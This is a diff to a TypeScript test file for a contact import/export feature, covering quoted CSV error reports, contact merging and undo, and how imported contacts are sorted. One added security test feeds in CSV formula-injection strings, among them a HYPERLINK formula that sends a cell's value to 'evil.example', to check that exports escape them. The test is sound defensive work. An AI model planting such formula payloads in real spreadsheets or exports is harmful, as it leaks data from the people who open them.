@@ -16,8 +16,10 @@ import {
   listContactImports,
   listContacts,
   listContactTimeline,
+  mergeContact,
   startContactImport,
   undoContactImport,
+  undoContactMerge,
   updateContact,
   uploadContactImport,
 } from '@ozvi/contract'
@@ -117,8 +119,10 @@ test('events explain state: contacts come from a file, known ones are updated, a
     changes: expect.arrayContaining([{ field: 'name', label: null, before: null, after: 'Eva Malá' }]),
   })
   const lines = (await errors(done.id)).split('\r\n')
-  expect(lines[0]).toBe('\ufeffrow,error,Meno,E-mail,Telefón,Krajina,Štítky,Zodpovedná osoba,Seats')
-  expect(lines.slice(1, 4).map((line) => line.split(',')[0])).toEqual(['4', '5', '6'])
+  expect(lines[0]).toBe(
+    '\ufeff"row","error","Meno","E-mail","Telefón","Krajina","Štítky","Zodpovedná osoba","Seats"',
+  )
+  expect(lines.slice(1, 4).map((line) => line.split(',')[0])).toEqual(['"4"', '"5"', '"6"'])
   expect(lines[2]).toContain('An earlier row of the file is the same person.')
   await until(done.id, 'done')
   // The channel carries what the contract says.
@@ -127,6 +131,46 @@ test('events explain state: contacts come from a file, known ones are updated, a
     [],
   )
   expect(told).toEqual(await browser.call(listContactImports, { integration_id }))
+})
+
+test('S2.04 SEC-45 what the export of contacts escapes is imported as it was', async () => {
+  const from = await workspace()
+  const values = [
+    '=1+1',
+    '＝1+1',
+    '-1;=HYPERLINK("https://evil.example/"&B1)',
+    "'=quoted",
+    'Ann|@sum; +2',
+    '"quoted", and more',
+    "O'Brien & sons; est. 1900",
+  ]
+  const field = { name: '＋Plan', type: 'text' } as const
+  const plan = await from.browser.call(createContactField, { integration_id: from.integration_id, ...field })
+  await from.run(
+    [
+      'email,company,＋Plan',
+      ...values.map((value, nth) => {
+        const cell = `"${value.replaceAll('"', '""').replace("'=", "''=")}"`
+        return `person-${nth}@example.com,${cell},${cell}`
+      }),
+    ].join('\n'),
+  )
+  const sourceRows = await from.people()
+  expect(new Set(sourceRows.map(({ company }) => company))).toEqual(new Set(values))
+  expect(new Set(sourceRows.map(({ fields }) => fields[plan.id]))).toEqual(new Set(values))
+
+  const { body } = await from.browser.request('GET', `/api/integration/${from.integration_id}/contact-export`)
+  const to = await workspace()
+  const copied = await to.browser.call(createContactField, { integration_id: to.integration_id, ...field })
+  const { data } = await to.upload(body)
+  const columns = data.columns.map(({ name, guess }) =>
+    ['email', 'company', '＋Plan'].includes(name) ? guess : null,
+  )
+  expect(columns).toContain(copied.id)
+  expect((await to.run(body, { columns })).failed).toBe(0)
+  const valuesByEmail = (rows: Awaited<ReturnType<typeof to.people>>, id: string) =>
+    new Map(rows.map(({ email, company, fields }) => [email, [company, fields[id]]]))
+  expect(valuesByEmail(await to.people(), copied.id)).toEqual(valuesByEmail(sourceRows, plan.id))
 })
 
 const text = 'Meno,Email\nŽofia Ďurčanská,zofia@example.com\n'
@@ -277,13 +321,14 @@ test('events explain state: before anything is written a check counts what an im
   expect(await browser.call(checkContactImport, asked)).toMatchObject({ status: 'checking', rows_done: 0 })
   const counts = { rows_total: 605, rows_done: 605, created: 600, updated: 1, skipped: 1, failed: 3 }
   expect(await until(key.import_id, 'checked')).toMatchObject(counts)
-  expect(heard.at(-1)?.data).toMatchObject({ status: 'checked', ...counts })
+  // The event follows the commit that the list shows.
+  await expect.poll(() => heard.at(-1)?.data).toMatchObject({ status: 'checked', ...counts })
   expect(
     (await errors(key.import_id))
       .split('\r\n')
       .slice(1, 4)
       .map((line) => line.split(',')[0]),
-  ).toEqual(['4', '605', '606'])
+  ).toEqual(['"4"', '"605"', '"606"'])
   expect(await people()).toEqual(before)
   // Another plan is counted anew, and so is what then happens.
   await browser.call(checkContactImport, { ...asked, on_known: 'skip' })
@@ -373,6 +418,51 @@ test('an external id decides, and two of them are never made one', async () => {
   expect(await run('id,name\nA-1,Other', { match_by: 'external_id', on_known: 'skip' })).toMatchObject({
     skipped: 1,
   })
+})
+
+test('S2.04 an imported contact was never seen, has no language, names the file, and is listed after visitors', async () => {
+  const { browser, integration_id, integration, run } = await workspace()
+  await run('Name,E-mail\nAnna,anna@example.com\nBela,bela@example.com\nCyril,cyril@example.com')
+  const visitor = await server.seed.visitor(integration.public_key)
+  type Asked = { sort: 'last_seen' | 'first_seen'; cursor?: string; rules?: string; limit?: number }
+  const list = (asked: Asked) => browser.call(listContacts, { integration_id, ...asked })
+  for (const sort of ['last_seen', 'first_seen'] as const) {
+    const ids: string[] = []
+    let cursor: string | null | undefined
+    do {
+      const page = await list({ sort, limit: 2, ...(cursor ? { cursor } : {}) })
+      ids.push(...page.items.map(({ id }) => id))
+      cursor = page.next
+    } while (cursor)
+    expect(ids[0], sort).toBe(visitor.contact_id)
+    expect(new Set(ids).size, sort).toBe(4)
+  }
+  const { items } = await list({ sort: 'last_seen', rules: 'import_file.contains.people' })
+  expect(new Set(items.map(({ name }) => name))).toEqual(new Set(['Anna', 'Bela', 'Cyril']))
+  for (const row of items)
+    expect(row).toMatchObject({
+      first_seen_at: null,
+      last_seen_at: null,
+      locale: null,
+      import_file: 'people.csv',
+      referrer: null,
+    })
+  expect((await list({ sort: 'last_seen', rules: 'last_seen.within.30' })).items).toHaveLength(1)
+})
+
+test('an imported contact who comes to the site is seen from then on, in the language of their browser', async () => {
+  const { browser, integration_id, integration, run, people } = await workspace()
+  await run('Name,E-mail\nAnna,anna@example.com')
+  const anna = (await people()).find(({ name }) => name === 'Anna')
+  const visitor = await server.seed.visitor(integration.public_key)
+  const source = await browser.call(getContact, { integration_id, contact_id: visitor.contact_id })
+  const merge = { id: crypto.randomUUID(), contact_id: source.id, into_id: anna?.id ?? '' }
+  await browser.call(mergeContact, { integration_id, ...merge })
+  const read = () => browser.call(getContact, { integration_id, contact_id: merge.into_id })
+  const { first_seen_at, last_seen_at, locale } = source
+  expect(await read()).toMatchObject({ first_seen_at, last_seen_at, locale, import_file: 'people.csv' })
+  await browser.call(undoContactMerge, { integration_id, merge_id: merge.id })
+  expect(await read()).toMatchObject({ first_seen_at: null, last_seen_at: null, locale: null })
 })
 
 test('SEC-10 404: another workspace’s import is neither seen, checked, started, cancelled nor undone', async () => {
